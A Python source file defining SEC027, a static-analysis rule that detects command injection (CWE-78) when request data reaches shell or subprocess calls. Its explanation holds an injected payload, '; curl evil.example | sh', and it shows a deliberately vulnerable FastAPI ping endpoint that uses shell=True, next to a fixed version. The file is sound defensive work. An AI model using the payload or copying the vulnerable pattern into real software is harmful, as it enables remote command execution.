"""Commands that are put together from what a request says."""

from __future__ import annotations

import ast
from itertools import pairwise
from typing import TYPE_CHECKING

from fastscaffold.audit.facts.running.handed import called
from fastscaffold.audit.findings import Severity
from fastscaffold.audit.modules import dotted
from fastscaffold.audit.rules._requests import Sink, given, hits, sink
from fastscaffold.audit.rules.base import Hit, Rule

if TYPE_CHECKING:
    from collections.abc import Iterator

    from fastscaffold.audit.facts import Facts
    from fastscaffold.audit.facts.requests.forms import Frame
    from fastscaffold.audit.facts.requests.sent import Said

_SHELLS = {
    "cmd": (
        *("asyncio.create_subprocess_shell", "asyncio.subprocess.create_subprocess_shell"),
        *("os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"),
    ),
    "command": ("os.system",),
}
_PROCESSES = (
    *("subprocess.Popen", "subprocess.call", "subprocess.check_call"),
    *("subprocess.check_output", "subprocess.run"),
)
_PROGRAMS = (
    *("asyncio.create_subprocess_exec", "asyncio.subprocess.create_subprocess_exec"),
    *("os.execl", "os.execlp", "os.execv", "os.execvp", "os.execve", "os.execvpe"),
)
# Programs that are given other programs as text, and how they are told so.
_INTERPRETERS = frozenset(
    {"bash", "cmd", "cmd.exe", "dash", "ksh", "node", "perl", "powershell", "pwsh", "python"}
    | {"python3", "ruby", "sh", "zsh"}
)
_TOLD = frozenset({"-Command", "-c", "-e", "-ec", "-lc", "/C", "/c"})
MAX_LISTS = 6


def check(facts: Facts) -> Iterator[Hit]:
    """Each command, or choice of a program, that a request decides."""
    for keyword, names in _SHELLS.items():
        yield from hits(
            given(facts, names, keyword),
            lambda each: facts.requested.part(each.text, each.frame),
            "becomes part of a command",
        )
    yield from hits(_processes(facts), lambda each: _started(facts, each), "decides what is run")


def _processes(facts: Facts) -> Iterator[Sink]:
    for call in called(facts, *_PROCESSES, *_PROGRAMS):
        first = call.node.args[0] if call.node.args else None
        starred = first.value if isinstance(first, ast.Starred) else None
        text = starred or call.argument("args", 0) or call.argument("program", 0)
        if text is not None:
            yield sink(call, text)


def _started(facts: Facts, each: Sink) -> Said | None:
    if not isinstance(each.at, ast.Call):
        return None
    if _has_shell(each.at):
        text = each.text
        if isinstance(text, ast.List | ast.Tuple) and text.elts:
            text = text.elts[0]  # the others are arguments of the shell
        return facts.requested.part(text, each.frame)
    function = facts.index.called(each.at.func, each.frame.scope)
    listed = not function.startswith(("asyncio.", "os."))
    return _program(facts, each.text, each.frame, listed=listed, steps=MAX_LISTS)


def _has_shell(call: ast.Call) -> bool:
    return any(
        each.arg == "shell" and isinstance(each.value, ast.Constant) and each.value.value is True
        for each in call.keywords
    )


def _program(
    facts: Facts, node: ast.expr, frame: Frame, *, listed: bool, steps: int
) -> Said | None:
    """What of a request is the program of a list of arguments, or code that one is given."""
    for form in list(facts.requested.forms(node, frame)):
        match form.node:
            case ast.List(elts=[first, *others]) | ast.Tuple(elts=[first, *others]):
                if isinstance(first, ast.Starred):
                    found = _program(facts, first.value, form.frame, listed=listed, steps=steps - 1)
                else:
                    found = facts.requested.part(first, form.frame)
                found = found or _code(facts, first, others, form.frame)
            case ast.BinOp(left=left, op=ast.Add()) if listed and steps:
                found = _program(facts, left, form.frame, listed=listed, steps=steps - 1)
            case ast.Name():
                # Its values are forms as well: a list of them begins with its program.
                found = form.said
            case _:
                found = form.said or facts.requested.beginning(form.node, form.frame)
        if found is not None:
            return found
    return None


def _code(facts: Facts, program: ast.expr, others: list[ast.expr], frame: Frame) -> Said | None:
    name = facts.values.text(program, frame.scope) or ""
    is_own = dotted(program) == "sys.executable"
    if not is_own and name.rpartition("/")[2] not in _INTERPRETERS:
        return None
    for told, code in pairwise(others):
        if not isinstance(told, ast.Constant) or not str(told.value).startswith("-"):
            return None  # what follows are options of a script
        if told.value in _TOLD:
            return facts.requested.part(code, frame)
    return None


RULE = Rule(
    id="SEC027",
    name="commands-from-requests",
    severity=Severity.P0,
    topic="security",
    seed="OWASP ASVS 5.0 1.2.5; CWE-78: command injection",
    what="Text of a request that becomes part of a command of a shell: `os.system`, `os.popen`,"
    " `subprocess` with `shell=True`, `create_subprocess_shell`, `bash -c`; or that decides which"
    " program is run. It is followed through names, f-strings, helper functions and services."
    " `shlex.quote`, lists of arguments whose program stands there, numbers, enumerations and what"
    " is compared with a list are left alone.",
    why="Whoever sends `; curl evil.example | sh` runs what they like, with all that the"
    " application may read and write.",
    bad={
        "app/main.py": """import subprocess

from fastapi import FastAPI

app = FastAPI()


@app.get("/ping")
def ping(host: str) -> str:
    return subprocess.check_output(f"ping -c 1 {host}", shell=True, text=True)
"""
    },
    good={
        "app/main.py": """import subprocess

from fastapi import FastAPI

app = FastAPI()


@app.get("/ping")
def ping(host: str) -> str:
    return subprocess.check_output(["ping", "-c", "1", "--", host], text=True)
"""
    },
    fix="Start a fixed program with a list of arguments and without a shell.",
    check=check,
)
